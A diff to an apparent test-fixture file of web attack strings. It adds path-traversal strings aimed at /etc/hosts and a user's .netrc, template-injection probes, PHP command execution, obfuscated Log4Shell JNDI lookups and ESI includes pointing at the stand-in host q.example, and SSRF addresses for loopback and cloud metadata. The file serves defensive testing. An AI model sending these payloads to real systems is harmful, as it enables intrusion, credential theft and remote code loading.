@@ -1,6 +1,9 @@
 /** Attacks on paths, templates, document databases and programming languages; written for these tests. */
 export const otherAttacks: Readonly<Record<string, readonly string[]>> = {
   "steps to parent folders": [
+    "../etc/hostname",
+    ".././../etc/hosts",
+    "../home/kim/.netrc",
     "../../../a",
     "..\\..\\..\\a",
     "../../etc/passwd",
@@ -29,6 +32,17 @@ export const otherAttacks: Readonly<Record<string, readonly string[]>> = {
     "/./././././././a",
   ],
   "expressions of templates": [
+    "{{item.price}}",
+    "${item}",
+    "#{item.total}",
+    "<%= item %>",
+    "{{3*'q'}}",
+    "[[4*9]]",
+    "~{4*9}",
+    "%{4*9}",
+    "$[4*9]",
+    "{#4*9#}",
+    "[[''.__class__]]",
     "{{7*71}}",
     "{{7*'7'}}",
     "{{ 7 * 71 }}",
@@ -125,6 +139,7 @@ export const otherAttacks: Readonly<Record<string, readonly string[]>> = {
     "Object.prototype.__defineGetter__('a')",
   ],
   "code of PHP": [
+    "echo copy('a','b');",
     "<?php system('id'); ?>",
     "<?=`id`?>",
     "<? phpinfo() ?>",
@@ -154,6 +169,8 @@ export const otherAttacks: Readonly<Record<string, readonly string[]>> = {
     "auto_prepend_file=php://input",
   ],
   "code and objects of Java": [
+    "${env:HOME}",
+    "a ${java:${env:A}}",
     "${jndi:ldap://q.example/a}",
     "${${lower:j}ndi:ldap://q.example/a}",
     "${${::-j}${::-n}di:rmi://q.example/a}",
@@ -200,6 +217,7 @@ export const otherAttacks: Readonly<Record<string, readonly string[]>> = {
     "%3C!ENTITY%20b%20SYSTEM%20%22file:///a%22%3E",
   ],
   "includes of the server": [
+    "<!--esi $set(a) -->",
     '<!--#exec cmd="id" -->',
     '<!--#include virtual="/etc/passwd"-->',
     '<!--#echo var="DOCUMENT_ROOT" -->',
@@ -207,6 +225,10 @@ export const otherAttacks: Readonly<Record<string, readonly string[]>> = {
     '<esi:include src="http://q.example/a"/>',
   ],
   "addresses inside": [
+    "http://017700000001/",
+    "http://0/",
+    "http://a.example@127.0.0.1/b",
+    "http://127.0.1/",
     "http://169.254.169.254/latest/meta-data/",
     "http://metadata.google.internal/computeMetadata/v1/",
     "http://127.0.0.1:22/",
